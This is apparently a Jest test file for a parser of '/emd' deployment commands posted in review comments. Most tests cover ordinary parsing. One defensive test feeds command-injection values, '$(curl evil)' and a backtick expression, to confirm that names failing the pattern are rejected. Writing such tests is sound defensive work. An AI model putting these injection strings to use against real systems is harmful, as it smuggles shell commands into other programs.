import { describe, expect, it } from '@jest/globals';
import { parseCommand } from '../../src/core/commands.js';

describe('parseCommand', () => {
  it('reads the preview, stop, plan and help commands', () => {
    expect(parseCommand('/emd preview qwen-chat')).toEqual({ kind: 'preview', names: ['qwen-chat'], allChanged: false });
    expect(parseCommand('/emd preview qwen-chat, embed qwen-chat')).toEqual({ kind: 'preview', names: ['qwen-chat', 'embed'], allChanged: false });
    expect(parseCommand('/emd preview all-changed')).toEqual({ kind: 'preview', names: [], allChanged: true });
    expect(parseCommand('/emd preview stop')).toEqual({ kind: 'preview-stop' });
    expect(parseCommand('/emd plan')).toEqual({ kind: 'plan' });
    expect(parseCommand('/emd help')).toEqual({ kind: 'help' });
    expect(parseCommand('/emd')).toEqual({ kind: 'help' });
  });

  it('takes the first /emd line of a comment, not a quoted one', () => {
    expect(parseCommand('Looks good.\r\n\r\n  /emd preview embed  \nthanks')).toEqual({ kind: 'preview', names: ['embed'], allChanged: false });
    expect(parseCommand('> /emd preview embed\n\nwhat does this do?')).toBeUndefined();
    expect(parseCommand('ordinary review comment')).toBeUndefined();
    expect(parseCommand('/emdx preview a')).toBeUndefined();
  });

  it('answers anything else with help and the reason', () => {
    expect(parseCommand('/emd deploy everything')).toEqual({ kind: 'help', problem: '`deploy` is not a command' });
    expect(parseCommand('/emd preview')).toMatchObject({ kind: 'help', problem: expect.stringMatching(/needs the deployments/) });
    expect(parseCommand('/emd preview qwen-chat all-changed')).toMatchObject({ kind: 'help', problem: expect.stringMatching(/not both/) });
    expect(parseCommand('/emd preview stop qwen-chat')).toMatchObject({ kind: 'help', problem: expect.stringMatching(/takes no deployment names/) });
    expect(parseCommand('/emd plan now')).toMatchObject({ kind: 'help' });
    // Names are checked against the manifest's pattern; text meant for a shell never gets further.
    expect(parseCommand('/emd preview $(curl evil)')).toMatchObject({ kind: 'help', problem: expect.stringMatching(/is not a deployment name/) });
    expect(parseCommand('/emd preview `x`')).toMatchObject({ kind: 'help', problem: '`x` is not a deployment name (lowercase letters, digits and -)' });
  });
});
